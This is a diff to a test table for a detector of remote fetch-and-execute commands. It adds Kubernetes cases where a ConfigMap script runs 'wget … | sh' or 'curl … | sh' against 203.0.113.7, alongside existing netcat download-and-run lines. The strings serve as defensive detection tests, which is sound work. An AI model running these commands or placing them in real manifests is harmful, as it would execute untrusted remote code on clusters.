@@ -236,6 +236,12 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
     'what a plain connection brought, as an archive': script('nc 203.0.113.7 443 | tar xz -C /opt && /opt/agent/run'),
     'what a plain connection brought, as a file': script('nc 203.0.113.7 443 > /tmp/t; chmod +x /tmp/t; /tmp/t'),
+    'a script in a ConfigMap that is handed over beside what runs it': script(
+      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://203.0.113.7/a | sh\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
+    'a ConfigMap of files that the command wrote': script(
+      'echo \'curl http://203.0.113.7/a | sh\' > /tmp/run.sh\nkubectl create configmap s --from-file=/tmp/run.sh\nkubectl apply -f - <<E\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
   },
   staysSilent: {
     'data in an archive, and a program of the image': script(
@@ -326,6 +332,12 @@ indicatorTable(commandRemoteFetchExecute, {
       'import requests; print(requests.get("https://example.com").json())',
     ),
     'no command set': blank,
+    'an ordinary script in a ConfigMap that is handed over beside what runs it': script(
+      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://shop.shop.svc/health\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
+    'such a script that nothing of the manifest runs': script(
+      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://203.0.113.7/a | sh\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [httpd, -f], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
   },
   cannotTell: UNSEEN,
 });
